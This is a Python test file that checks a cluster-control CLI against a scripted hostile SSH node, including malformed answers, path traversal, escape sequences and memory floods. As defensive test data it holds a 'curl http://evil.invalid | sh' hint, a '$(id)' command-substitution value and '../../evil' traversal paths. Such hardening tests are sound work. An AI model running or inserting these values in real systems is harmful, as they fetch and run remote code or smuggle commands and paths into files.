"""Every verb against a host that answers nonsense, over a real sshd."""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest
import yaml

from clusterctl.cli.shared.main import main
from clusterctl.inventory.load import load
from clusterctl.sandbox.loopback import free_port
from clusterctl.verbs.runs.records import Records, RunRecord
from tests.sshd_servers import USER, Sshd, make_key
from tests.verbs.hostile import ESCAPES, UNSAFE
from tests.verbs.run_answers import RUN

MIB = 1 << 20
HOSTILE = Path(__file__).parent / "hostile_node.py"
EVIL_HINT = "curl http://evil.invalid | sh"
PART = {"run": "../../evil", "state": ESCAPES, "ranks": [{"rank": 10**30}], "name": ESCAPES}
LINE = f"a line {ESCAPES}\n".encode("utf-8", "backslashreplace").decode("latin-1")

SCRIPT: dict[str, list[dict[str, object]]] = {
    "status": [{"node": PART, "end": True}],
    "runs": [{"runs": [PART], "end": True}],
    "tail": [
        {"here": True},
        {"event": {"kind": ESCAPES, "rank": [1]}, "file": "../../evil"},
        {"data": "ranks/0.log", "rank": 0, "offset": 0, "time": 1.0, "body": LINE},
        {"data": "../../evil", "rank": 0, "offset": 0, "time": 1.0, "body": "x\n"},
        {"data": "ranks/0.log", "rank": 0, "offset": 2**62, "body": "x\n"},
        {"node": PART, "end": True},
    ],
    "stop": [{"stage": ESCAPES}, {"gone": True, "left": ESCAPES, "end": True}],
    "prune": [{"kept": [ESCAPES], "end": True}],
    "checkpoints": [{"candidates": [5, {"name": "$(id)", "path": "../.."}], "end": True}],
    "sync-compare": [
        {"error": {"kind": ESCAPES, "message": ESCAPES, "hint": EVIL_HINT}, "end": True}
    ],
    "share-clear": [{"end": True}],
    "collect-facts": [{"time": ESCAPES}, {"answers": [[1]], "end": True}],
}


class Host:
    """A hostile host, its inventory, and the folder in which commands are typed."""

    def __init__(self, folder: Path, server: Sshd) -> None:
        self.project = folder / "project"
        self.state = folder / "state"
        self.inventory = folder / "hosts.yaml"
        self.script = folder / "script.json"
        self.server = server


@pytest.fixture(scope="module")
def host(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Host]:
    """One that serves all tests of this file; what it answers is in `SCRIPT`."""
    folder = tmp_path_factory.mktemp("hostile")
    script = folder / "script.json"
    script.write_text(json.dumps(SCRIPT))
    identity = make_key(folder / "id")
    place = folder / "sshd"
    place.mkdir()
    make_key(place / "host_key")
    shutil.copy(folder / "id.pub", place / "authorized_keys")
    if os.geteuid() == 0:
        Path("/run/sshd").mkdir(exist_ok=True)  # its privilege separation needs it
    option = f"ForceCommand {sys.executable} -I -S {HOSTILE} --play {script}"
    server = Sshd(folder=place, port=free_port(), identity=identity, options=(option,))
    made = Host(folder, server)
    made.project.mkdir()
    (made.project / "train.py").write_text("print(1)\n")
    login = {"user": USER, "port": server.port, "identity": str(identity)}
    node = {"host": "127.0.0.1", "address": "127.0.0.1", "workdir": "/nowhere/at/all"}
    job = {"command": ["python", "train.py"], "checkpoints": "out", "resume_args": ["{checkpoint}"]}
    document = {"cluster": "lab", "ssh": login, "nodes": [node], "job": job}
    made.inventory.write_text(yaml.safe_dump(document))
    known = made.state / "lab" / "known_hosts"
    known.parent.mkdir(parents=True)
    known.write_text(server.known_line)
    server.start()
    with pytest.MonkeyPatch.context() as patch:
        # An address of this machine would be reached without SSH.
        patch.setattr("clusterctl.inventory.build.is_here", lambda _host, _own: False)
        record = RunRecord(run=RUN, began=1.0, cluster=load(made.inventory))
        Records(made.state).write(record)
        yield made
    server.stop()


VERBS: dict[str, tuple[list[str], int]] = {
    "status": (["status", RUN], 3),
    "status --json": (["status", RUN, "--json"], 3),
    "runs": (["runs"], 3),
    "runs --discover": (["runs", "--discover"], 3),
    "prune": (["runs", "--prune", "0"], 3),
    "logs": (["logs", RUN], 3),
    "logs -f": (["logs", "-f", RUN], 3),
    "logs --json": (["logs", "--json", RUN], 3),
    "collect": (["logs", "--collect", "kept", RUN], 3),
    "stop": (["stop", RUN], 3),
    "sync": (["sync"], 1),
    "check": (["check", "--only", "ssh"], 1),
    "launch": (["launch", "--no-check", "--no-sync", "--", "true"], 125),
    "resume": (["resume", RUN, "--checkpoint", "latest"], 125),
    "forget": (["forget", "no-such-host"], 2),
}


@pytest.mark.parametrize("verb", VERBS)
def test_a_verb_ends_with_its_exit_code_and_names_the_host(
    verb: str, host: Host, monkeypatch: pytest.MonkeyPatch, capfd: pytest.CaptureFixture[str]
) -> None:
    words, code = VERBS[verb]
    monkeypatch.setenv("CLUSTERCTL_STATE", str(host.state))
    monkeypatch.setenv("CLUSTERCTL_INVENTORY", str(host.inventory))
    monkeypatch.delenv("SSH_AUTH_SOCK", raising=False)
    monkeypatch.chdir(host.project)
    before = files_of(host)
    assert main(words) == code
    out, err = capfd.readouterr()
    said = out + err
    assert "Traceback" not in said
    assert "this is a bug" not in said
    assert not UNSAFE.search(said), said
    assert "evil.invalid" not in said
    if verb != "forget":
        assert "127.0.0.1" in said
    made = files_of(host) - before
    ours = ("project/kept/127.0.0.1/ranks/0.log", "state/lab/", "state/launch.key")
    assert all(path.startswith(ours) for path in made)


def files_of(host: Host) -> set[str]:
    """Return what lies in the test's folder, and beside it."""
    folder = host.project.parent
    return {str(path.relative_to(folder)) for path in folder.rglob("*") if path.is_file()}


CLIENT = """
import sys
from clusterctl.inventory import build
build.is_here = lambda _host, _own: False
from clusterctl.cli.shared.main import main
code = main(sys.argv[2:])
with open("/proc/self/status") as status, open(sys.argv[1], "w") as told:
    told.write(status.read())
sys.exit(code)
"""
"""A command that tells how much memory it took; `ru_maxrss` would count the tests' own too."""
LARGEST = 300 * MIB
"""Bytes that a command may take in all; it takes 60 MiB to start."""
SHORT = "x\n"

FLOODS: dict[str, tuple[list[str], int, str, list[dict[str, object]]]] = {
    "a frame said to have 4 GB": (
        ["logs", "--raw", RUN], 3, "tail",
        [{"here": True}, {"announced": 2**32 - 1, "body": "x", "body_times": 8 * MIB}],
    ),
    "a log without end": (
        ["logs", "--raw", RUN], 3, "tail",
        [{"data": "ranks/0.log", "rank": 0, "offset": 0, "body": "x" * 63 + "\n",
          "body_times": 4096, "times": 1280}],
    ),
    "large bodies": (
        ["logs", "--raw", RUN], 3, "tail",
        [{"data": "ranks/0.log", "rank": 0, "offset": 0, "body": SHORT,
          "body_times": 100 * MIB, "times": 2}],
    ),
    "large heads": (
        ["logs", "--raw", RUN], 3, "tail",
        [{"event": {"kind": "x", "list": [{}] * 3_000_000}, "times": 4}],
    ),
    "a status of empty objects": (
        ["status", RUN], 3, "status",
        [{"node": {"ranks": [{}] * 4_000_000}, "times": 4}, {"node": PART, "end": True}],
    ),
    "facts that inflate": (
        ["check", "--only", "ssh"], 1, "collect-facts",
        [{"time": 1.0}, {"answers": [["file:/proc/mounts", "ok", 300 * MIB, None, 0.0, ""],
                                     ["file:/proc/net/route", "ok", 0, None, 0.0, ""]],
                         "body": SHORT, "body_times": 150 * MIB, "deflated": True, "end": True}],
    ),
}  # fmt: skip


@pytest.mark.timeout(180)
@pytest.mark.parametrize(
    "flood",
    [
        pytest.param(flood, marks=pytest.mark.soak) if flood == "a log without end" else flood
        for flood in FLOODS
    ],
)
def test_a_flood_takes_little_memory_of_the_whole_command(
    flood: str, host: Host, tmp_path: Path
) -> None:
    words, code, operation, answers = FLOODS[flood]
    host.script.write_text(json.dumps({**SCRIPT, operation: answers}))
    told = tmp_path / "status"
    try:
        done = subprocess.run(
            [sys.executable, "-c", CLIENT, str(told), *words],
            cwd=host.project,
            env={
                **{name: text for name, text in os.environ.items() if name != "SSH_AUTH_SOCK"},
                "CLUSTERCTL_STATE": str(host.state),
                "CLUSTERCTL_INVENTORY": str(host.inventory),
            },
            stdin=subprocess.DEVNULL,
            stdout=subprocess.DEVNULL,
            stderr=subprocess.PIPE,
            check=False,
        )
    finally:
        host.script.write_text(json.dumps(SCRIPT))
    assert done.returncode == code, done.stderr.decode()[-2000:]
    peak = re.search(r"VmHWM:\s*(\d+) kB", told.read_text())
    assert peak is not None
    print(int(peak[1]) // 1024, "MiB")
    assert int(peak[1]) * 1024 < LARGEST
